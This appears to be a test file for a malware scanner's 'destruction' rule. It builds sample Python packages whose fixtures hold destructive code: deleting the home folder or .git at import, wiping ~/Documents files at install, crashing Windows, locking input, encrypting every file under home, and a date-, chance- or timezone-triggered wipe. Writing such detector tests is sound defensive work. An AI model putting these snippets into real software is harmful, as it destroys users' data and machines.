import { expect, test } from 'vitest';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

test('an import that removes the home folder is malware at the line of the removal', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, shutil',
      "home = os.path.expanduser('~')",
      'shutil.rmtree(home, ignore_errors=True)',
    ),
  });

  expect(await inspect('destruction', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 3 },
  ]);
});

test('files found by a walk through the home folder and overwritten at install are malware', async () => {
  const file = sdist({
    'setup.py': python(
      'import os',
      'from setuptools import setup',
      "for root, _, names in os.walk(os.path.expanduser('~/Documents')):",
      '    for name in names:',
      "        with open(os.path.join(root, name), 'wb') as file:",
      "            file.write(b'')",
      "setup(name='example')",
    ),
  });

  expect(await inspect('destruction', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'install', line: 6 },
  ]);
});

test('the repository that an import deletes in the folder it is started in is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python('import os, shutil', "shutil.rmtree(os.path.join(os.getcwd(), '.git'))"),
  });

  expect(await inspect('destruction', file)).toMatchObject([{ class: 'malware', line: 2 }]);
});

test('a crash of the system at import is malware, by whatever name the library is reached', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from ctypes import windll as w',
      'nt = w.ntdll',
      'nt.NtRaiseHardError(0xC0000022, 0, 0, 0, 6, None)',
    ),
  });

  expect(await inspect('destruction', file)).toMatchObject([{ class: 'malware', line: 3 }]);
});

test('keyboard, session or machine taken from whoever sits there is malware at install, and ordinary on call', async () => {
  for (const line of [
    'ctypes.windll.user32.LockWorkStation()',
    'ctypes.windll.user32.ExitWindowsEx(0, 1)',
    'ctypes.windll.user32.BlockInput(True)',
  ]) {
    const setup = python('import ctypes', 'from setuptools import setup', line, "setup(name='example')");
    const tool = python('import ctypes', 'def lock():', `    ${line}`);
    expect(await inspect('destruction', sdist({ 'setup.py': setup }))).toMatchObject([
      { class: 'malware', score: 10, line: 3 },
    ]);
    expect(await inspect('destruction', wheel({ 'pkg/tool.py': tool }))).toEqual([]);
  }
});

test('an import that deletes the interpreter is malware, a temporary environment that is cleared is not', async () => {
  const gone = wheel({ 'pkg/__init__.py': python('import shutil, sys', 'shutil.rmtree(sys.prefix)') });
  const own = wheel({
    'pkg/__init__.py': python(
      'import shutil, sys, os',
      "shutil.rmtree(os.path.join(sys.prefix, 'share', 'pkg', 'old'))",
    ),
  });

  expect(await inspect('destruction', gone)).toMatchObject([{ class: 'malware', line: 2 }]);
  expect(await inspect('destruction', own)).toEqual([]);
});

test('a build that clears its own folders and a cache that clears itself are silent', async () => {
  const file = sdist({
    'setup.py': python(
      'import os, shutil, tempfile',
      'from setuptools import setup',
      "shutil.rmtree('build', ignore_errors=True)",
      "shutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'example'), ignore_errors=True)",
      'place = tempfile.mkdtemp()',
      'shutil.rmtree(place)',
      "for root, _, names in os.walk('build'):",
      '    for name in names:',
      '        os.remove(os.path.join(root, name))',
      "setup(name='example')",
    ),
  });

  expect(await inspect('destruction', file)).toEqual([]);
});

test('a function that removes the folder it is handed belongs to its caller', async () => {
  const file = wheel({
    'pkg/__init__.py': python('import shutil', 'def clear(folder):', '    shutil.rmtree(folder)'),
  });

  expect(await inspect('destruction', file)).toEqual([]);
});

test.each([
  ["os.path.expanduser('~')", [{ class: 'malware', score: 10, message: 'Encrypts files all over ~.' }]],
  ['folder', []],
])('a function that encrypts every file of %s', async (root, expected) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os',
      'from cryptography.fernet import Fernet',
      'def lock(folder):',
      '    cipher = Fernet(Fernet.generate_key())',
      `    for root, _, names in os.walk(${root}):`,
      '        for name in names:',
      '            path = os.path.join(root, name)',
      "            data = open(path, 'rb').read()",
      "            open(path, 'wb').write(cipher.encrypt(data))",
    ),
  });

  expect(await inspect('destruction', file)).toMatchObject(expected);
});

test('an import that overwrites all sources below the folder it is started in is malware, a build that marks its own is not', async () => {
  const lines = [
    'import glob',
    "for path in glob.glob('**/*.py', recursive=True):",
    "    open(path, 'w').write('gone')",
  ];

  expect(await inspect('destruction', wheel({ 'pkg/__init__.py': python(...lines) }))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 3 },
  ]);
  expect(
    await inspect(
      'destruction',
      sdist({ 'setup.py': python(...lines, 'from setuptools import setup', "setup(name='example')") }),
    ),
  ).toEqual([]);
});

test('a root is a folder: what is done where it is none is not done', async () => {
  const of = (test: string): string =>
    python(
      'import os, shutil, sys',
      'from pathlib import Path',
      'def clear(path):',
      '    shutil.rmtree(path)',
      'def link(source, target):',
      `    if ${test}:`,
      '        clear(target)',
      "link(sys.argv[1], Path('/'))",
    );
  const inspected = (test: string) => inspect('destruction', wheel({ 'pkg/__init__.py': of(test) }));

  expect(await inspected('not target.is_dir()')).toEqual([]);
  expect(await inspected('not os.path.exists(target)')).toEqual([]);
  expect(await inspected('target.is_dir()')).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a home that is deleted on a day, by dice or in a country is malware on call; one that is asked for is not', async () => {
  const tool = (condition: string): string =>
    python(
      'import datetime, os, random, shutil, time',
      'def run(host):',
      `    if ${condition}:`,
      "        shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)",
    );

  for (const condition of [
    'datetime.date.today().year > 2025',
    'random.randint(1, 6) == 1',
    "time.tzname[0] == 'IRST'",
  ])
    expect(await inspect('destruction', wheel({ 'pkg/a.py': tool(condition) }))).toMatchObject([
      { class: 'malware', score: 10, context: 'call' },
    ]);
  expect(await inspect('destruction', wheel({ 'pkg/a.py': tool("host == 'all'") }))).toMatchObject([
    { class: 'suspicious', score: 6 },
  ]);
});
